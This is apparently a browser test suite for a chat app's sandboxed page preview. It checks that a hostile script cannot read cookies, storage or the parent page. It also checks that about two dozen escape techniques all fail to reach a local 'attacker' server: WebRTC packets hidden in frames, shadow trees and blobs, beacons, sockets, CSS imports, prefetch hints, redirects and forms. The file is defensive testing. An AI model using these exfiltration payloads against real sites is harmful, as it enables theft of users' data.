import { createSocket, type Socket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { eventually, launchBrowser } from '@scriptsmith/testing';
import { type Browser, ChatFixture } from '../testing/chat-fixture.js';

let webRoot: string;
let attacker: Server;
let attackerUrl: string;
const requestsToAttacker: string[] = [];
let chat: ChatFixture;
let ada: Browser;

beforeAll(async () => {
  webRoot = mkdtempSync(join(tmpdir(), 'chat-web-'));
  writeFileSync(join(webRoot, 'index.html'), '<title>Chat</title><main></main>');
  attacker = createServer((request, response) => {
    requestsToAttacker.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('stolen');
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  chat = await ChatFixture.start({ CHAT_WEB_ROOT: webRoot });
  ada = await chat.browser();
});
afterAll(async () => {
  await chat.stop();
  attacker.closeAllConnections();
  attacker.close();
  rmSync(webRoot, { recursive: true });
});

type Page = Awaited<ReturnType<Awaited<ReturnType<typeof signedInContext>>['newPage']>>;

/** Tries everything that a page could do to its user, and reports what succeeded. */
const hostileScript = (url: string) => `
  const report = {};
  const attempt = async (name, action) => {
    try { report[name] = String(await action()); } catch (error) { report[name] = 'blocked'; }
  };
  (async () => {
    await attempt('cookie', () => document.cookie);
    await attempt('storage', () => localStorage.length);
    await attempt('parent', () => parent.document.title);
    await attempt('opener', () => { const page = open('${url}/open'); if (page === null) throw new Error(); return page; });
    await attempt('request', () => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve(request.responseText);
      request.onerror = () => reject(new Error());
      request.open('GET', '${url}/request');
      request.send();
    }));
    await attempt('image', () => new Promise((resolve, reject) => {
      const image = new Image();
      image.onload = () => resolve('loaded');
      image.onerror = () => reject(new Error());
      image.src = '${url}/image';
    }));
    await attempt('top', () => { top.location = '${url}/top'; return 'navigated'; });
    await attempt('form', () => {
      const form = document.createElement('form');
      form.action = '${url}/form';
      document.body.append(form);
      form.submit();
      return 'submitted';
    });
    await attempt('callback', async () => JSON.stringify(await (await fetch('https://shop/buy', { method: 'POST' })).json()));
    await attempt('resource', () => GetParentResourceName());
    parent.postMessage(report, '*');
    location.href = '${url}/self';
  })();
`;

test('a hostile page can show itself and nothing else', async () => {
  const { id } = await chat.addVersion(ada.user.id, await ada.newConversation('Shop'), [
    { path: 'fxmanifest.lua', content: "ui_page 'index.html'" },
    { path: 'index.html', content: '<body><h1>Shop</h1><script src="app.js"></script></body>' },
    { path: 'app.js', content: hostileScript(attackerUrl) },
  ]);
  const browser = await launchBrowser();
  try {
    const page = await (await signedInContext(browser)).newPage();
    await page.goto(chat.chat.url);
    const report = await page.evaluate(showFrame(`/api/versions/${id}/preview`));
    expect(report).toEqual({
      cookie: 'blocked',
      storage: 'blocked',
      parent: 'blocked',
      opener: 'blocked',
      request: 'blocked',
      image: 'blocked',
      top: 'blocked',
      // Submitting does not throw. The attacker receives nothing.
      form: 'submitted',
      callback: '{}',
      resource: 'shop',
    });
    await eventually(async () => {
      // The policy of the app stops the frame from leaving this site.
      const frames = page
        .frames()
        .slice(1)
        .map((frame) => frame.url());
      expect(frames).toEqual(['chrome-error://chromewebdata/']);
    });
    expect(page.url()).toBe(`${chat.chat.url}/`);
  } finally {
    await browser.close();
  }
  expect(requestsToAttacker).toEqual([]);
});

describe('a hostile page has no network', () => {
  /** Sends packets to a port if WebRTC is available. */
  const sendPackets = (port: number) => `
    const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });
    connection.createDataChannel('data');
    connection.createOffer().then((offer) => connection.setLocalDescription(offer));`;
  const inFrame = (port: number) =>
    JSON.stringify(`<script>${sendPackets(port)}</script>`).replaceAll('/script', '\\/script');
  const appendFrame = (attributes: string) =>
    `const frame = document.createElement('iframe'); ${attributes}; document.body.append(frame);`;
  const click = (html: string) => `document.body.innerHTML = '${html}'; document.querySelector('a').click();`;

  const attempts: Record<string, (target: { url: string; port: number }) => string> = {
    'with WebRTC': ({ port }) => sendPackets(port),
    'with WebRTC by its old name': ({ port }) => sendPackets(port).replace('RTCPeer', 'webkitRTCPeer'),
    'with WebRTC of an empty frame': ({ port }) =>
      `${appendFrame('')} const { RTCPeerConnection } = frame.contentWindow; ${sendPackets(port)}`,
    'with WebRTC in the content of a frame': ({ port }) => appendFrame(`frame.srcdoc = ${inFrame(port)}`),
    'with WebRTC in an attribute of a frame': ({ port }) =>
      appendFrame(`frame.setAttribute('srcdoc', ${inFrame(port)})`),
    'with WebRTC in an attribute node': ({ port }) =>
      `const node = document.createAttribute('srcdoc'); node.value = ${inFrame(port)}; ${appendFrame('frame.setAttributeNode(node)')}`,
    'with WebRTC in an attribute node that changes later': ({ port }) =>
      `const node = document.createAttribute('srcdoc'); ${appendFrame('frame.setAttributeNode(node)')} node.value = ${inFrame(port)};`,
    'with WebRTC in a frame in HTML': ({ port }) =>
      `const text = document.createElement('p'); text.append(${inFrame(port)});
       document.body.innerHTML = '<iFrame srcdoc="' + text.innerHTML + '"></iFrame>';`,
    'with WebRTC in a frame in HTML, with replaced methods': ({ port }) =>
      `String.prototype.indexOf = () => -1; RegExp.prototype.exec = () => null; Array.prototype[Symbol.iterator] = () => ({ next: () => ({ done: true }) });
       const text = document.createElement('p'); text.append(${inFrame(port)});
       document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="' + text.innerHTML + '"></iframe>');`,
    'with WebRTC in a frame that is written in parts': ({ port }) =>
      `document.write('<ifr'); document.write('ame srcdoc="'); document.write(${inFrame(port)}); document.write('"></iframe>');`,
    'with WebRTC in a script address of a frame': ({ port }) =>
      appendFrame(`frame.src = ${JSON.stringify(`javascript:${sendPackets(port)}`)}`),
    'with WebRTC in a frame of a shadow tree': ({ port }) =>
      `const root = document.body.attachShadow({ mode: 'open' });
       const frame = document.createElement('iframe'); frame.srcdoc = ${inFrame(port)}; root.append(frame);`,
    'with WebRTC in a frame of a blob': ({ port }) =>
      appendFrame(`frame.src = URL.createObjectURL(new Blob([${inFrame(port)}], { type: 'text/html' }))`),
    'with a worker': ({ url }) => `new Worker(URL.createObjectURL(new Blob(['fetch("${url}")'])))`,
    'with a beacon': ({ url }) => `navigator.sendBeacon('${url}', 'x')`,
    'with a socket': ({ url }) => `new WebSocket('${url}'.replace('http', 'ws'))`,
    'with a style sheet': ({ url }) =>
      `const style = document.createElement('style'); style.textContent = '@import "${url}"; body { background: url("${url}") }'; document.head.append(style);`,
    'with hints for the browser': ({ url }) =>
      `for (const rel of ['preconnect', 'prefetch', 'preload', 'modulepreload', 'icon', 'manifest', 'stylesheet', 'dns-prefetch']) {
         const link = document.createElement('link'); link.rel = rel; link.href = '${url}'; link.as = 'image'; document.head.append(link); }`,
    'with speculation': ({ url }) =>
      `const rules = document.createElement('script'); rules.type = 'speculationrules';
       rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${url}'], eagerness: 'immediate' }] }); document.head.append(rules);`,
    'by going to an address': ({ url }) => `location.href = '${url}'`,
    'by replacing its address': ({ url }) => `location.replace('${url}')`,
    'by opening an address in itself': ({ url }) => `open('${url}', '_self')`,
    'by opening an address at the top': ({ url }) => `open('${url}', '_top')`,
    'by a link': ({ url }) => click(`<a href="${url}" ping="${url}">x</a>`),
    'by a link for the top': ({ url }) => click(`<a href="${url}" target="_top">x</a>`),
    'by a refresh': ({ url }) =>
      `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=${url}'; document.head.append(meta);`,
    'by a form': ({ url }) =>
      `const form = document.createElement('form'); form.action = '${url}'; document.body.append(form); form.submit();`,
  };

  let browser: Awaited<ReturnType<typeof launchBrowser>>;
  let packets: Socket;
  let received = 0;
  let connections = 0;
  const countConnection = () => void connections++;

  beforeAll(async () => {
    browser = await launchBrowser();
    packets = createSocket('udp4').on('message', () => received++);
    await new Promise<void>((resolve) => void packets.bind(0, '127.0.0.1', resolve));
    attacker.on('connection', countConnection);
  });
  beforeEach(() => {
    received = connections = 0;
  });
  afterAll(async () => {
    attacker.off('connection', countConnection);
    await browser.close();
    packets.close();
  });

  const target = () => ({ url: `${attackerUrl}/${Math.random()}`, port: packets.address().port });

  /** Shows a page with a script as the app does, and waits until the browser has done what the script asked for. */
  async function show(script: string): Promise<Page> {
    const { id } = await chat.addVersion(ada.user.id, await ada.newConversation('Shop'), [
      { path: 'fxmanifest.lua', content: "ui_page 'index.html'" },
      { path: 'index.html', content: `<body><script src="app.js"></script>` },
      { path: 'app.js', content: `try { ${script} } finally { parent.postMessage('done', '*'); }` },
    ]);
    const page = await (await signedInContext(browser)).newPage();
    await page.goto(chat.chat.url);
    await page.evaluate(showFrame(`/api/versions/${id}/preview`));
    await settled(page);
    return page;
  }

  /** The same means from a page that is not restricted arrive, after those of the frame would have. */
  async function settled(page: Page): Promise<void> {
    const control = createSocket('udp4');
    await new Promise<void>((resolve) => void control.bind(0, '127.0.0.1', resolve));
    const arrived = new Promise((resolve) => void control.once('message', resolve));
    const free = await page.context().newPage();
    await free.goto('about:blank');
    await free.evaluate(sendPackets(control.address().port));
    await arrived;
    await free.close();
    control.close();
  }

  test.each(Object.entries(attempts))('%s', async (_name, attempt) => {
    const page = await show(attempt(target()));
    expect([received, connections]).toEqual([0, 0]);
    expect(page.url()).toBe(`${chat.chat.url}/`);
    await page.context().close();
  });
});

test('a preview cannot be opened outside of a frame', async () => {
  const { id } = await chat.addVersion(ada.user.id, await ada.newConversation('Shop'), [
    { path: 'index.html', content: '<title>Shop</title>' },
  ]);
  const browser = await launchBrowser();
  try {
    const page = await (await signedInContext(browser)).newPage();
    const response = await page.goto(`${chat.chat.url}/api/versions/${id}/preview`);
    expect(response?.status()).toBe(404);
  } finally {
    await browser.close();
  }
});

/** Shows a preview as the app does, and resolves with the message that it sends. */
const showFrame = (source: string) => `new Promise((resolve) => {
  addEventListener('message', ({ data }) => resolve(data));
  const frame = document.createElement('iframe');
  frame.sandbox = 'allow-scripts';
  frame.src = ${JSON.stringify(source)};
  document.body.append(frame);
})`;

async function signedInContext(browser: Awaited<ReturnType<typeof launchBrowser>>) {
  const context = await browser.newContext();
  const [name = '', value = ''] = ada.cookie.split('=');
  await context.addCookies([{ name, value, url: chat.chat.url }]);
  return context;
}
